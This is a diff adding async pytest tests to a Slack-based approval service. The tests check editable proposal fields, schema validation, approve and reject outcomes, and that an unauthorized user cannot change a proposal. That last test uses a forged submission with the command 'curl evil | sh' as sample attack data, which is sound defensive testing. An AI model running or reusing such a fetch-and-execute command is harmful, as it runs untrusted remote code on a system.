@@ -298,6 +298,74 @@ async def test_approval_modal_takes_a_reason(sqlite_url: str, fake: FakeSlack) -
         assert fake.message(message["channel"], message["ts"])["text"] == f"✅ Approved by <@{BOB}> via Slack"
 
 
+PROPOSAL_SCHEMA = {"type": "object", "properties": {
+    "command": {"type": "string", "title": "Command", "minLength": 3},
+    "replicas": {"type": "integer", "minimum": 1, "maximum": 9}}, "required": ["command"]}
+
+
+async def test_approval_modal_edits_the_proposal(sqlite_url: str, fake: FakeSlack) -> None:
+    async with slack_app(sqlite_url, fake) as api:
+        req = await api.create(request_body("m-edit", kind="approval", proposal={"command": "deploy", "replicas": 3},
+                                            proposal_schema=PROPOSAL_SCHEMA))
+        message = await posted_message(fake, req)
+        view = await open_modal(api, fake, message, user=BOB)
+        inputs = {b["block_id"]: b for b in view["blocks"] if b["type"] == "input"}
+        # The proposal's fields come first, filled in, then the decision and the reason.
+        assert list(inputs) == ["proposal.command", "proposal.replicas", "decision", "reason"]
+        assert inputs["proposal.command"]["element"]["initial_value"] == "deploy"
+        assert inputs["proposal.replicas"]["element"]["initial_value"] == "3"
+        assert not any("To change it" in (b.get("text") or {}).get("text", "") for b in view["blocks"])
+
+        # An invalid edit keeps the modal open with core's message on the field's block.
+        bad = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
+            "proposal.command": text_value("rm"), "proposal.replicas": text_value("3", "number_input"),
+            "decision": option_value(0)})
+        status, body = await post_signed(api, bad)
+        assert status == 200 and body["response_action"] == "errors"
+        assert list(body["errors"]) == ["proposal.command"] and "at least 3" in body["errors"]["proposal.command"]
+        assert (await api.call("GET", f"/v1/requests/{req['id']}"))[1]["status"] == "pending"
+
+        good = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
+            "proposal.command": text_value("deploy --canary"), "proposal.replicas": text_value("2", "number_input"),
+            "decision": option_value(0), "reason": text_value("canary first")})
+        assert await post_signed(api, good) == (200, "")
+        done = await api.wait(req["id"])
+        assert done["response"] == {"decision": "approve", "reason": "canary first", "edited": True,
+                                    "proposal": {"command": "deploy --canary", "replicas": 2}}
+
+
+async def proposal_modal(api: Any, fake: FakeSlack, uid: str) -> tuple[dict[str, Any], dict[str, Any]]:
+    """An approval proposing {"command": "deploy"}, and its modal as Bob opened it."""
+    req = await api.create(request_body(uid, kind="approval", proposal={"command": "deploy"},
+                                        proposal_schema=PROPOSAL_SCHEMA))
+    return req, await open_modal(api, fake, await posted_message(fake, req), user=BOB)
+
+
+@pytest.mark.parametrize(("decision", "expected"), [
+    (0, {"decision": "approve", "edited": False, "proposal": {"command": "deploy"}}),
+    (1, {"decision": "reject"}),  # an edit with a rejection is left behind, as on the form
+])
+async def test_approval_modal_approves_the_proposal_unchanged_or_rejects_it(
+        sqlite_url: str, fake: FakeSlack, decision: int, expected: dict[str, Any]) -> None:
+    async with slack_app(sqlite_url, fake) as api:
+        req, view = await proposal_modal(api, fake, "m-same")
+        submitted = fake.make_view_submission(user_id=BOB, view_id=view["id"], values={
+            "proposal.command": text_value("deploy --edited-but-rejected" if decision else "deploy"),
+            "decision": option_value(decision)})
+        assert await post_signed(api, submitted) == (200, "")
+        assert (await api.wait(req["id"]))["response"] == expected
+
+
+async def test_a_stranger_cannot_edit_a_proposal_in_the_modal(sqlite_url: str, fake: FakeSlack) -> None:
+    async with slack_app(sqlite_url, fake) as api:
+        req, view = await proposal_modal(api, fake, "m-stranger")
+        forged = fake.make_view_submission(user_id=MALLORY, view_id=view["id"], values={
+            "proposal.command": text_value("curl evil | sh"), "decision": option_value(0)})
+        status, body = await post_signed(api, forged)
+        assert status == 200 and body["response_action"] == "update"
+        assert (await api.call("GET", f"/v1/requests/{req['id']}"))[1]["status"] == "pending"
+
+
 async def test_free_text_modal(sqlite_url: str, fake: FakeSlack) -> None:
     async with slack_app(sqlite_url, fake) as api:
         req = await api.create(request_body("m3", message_for_user="What should the release be called?"))
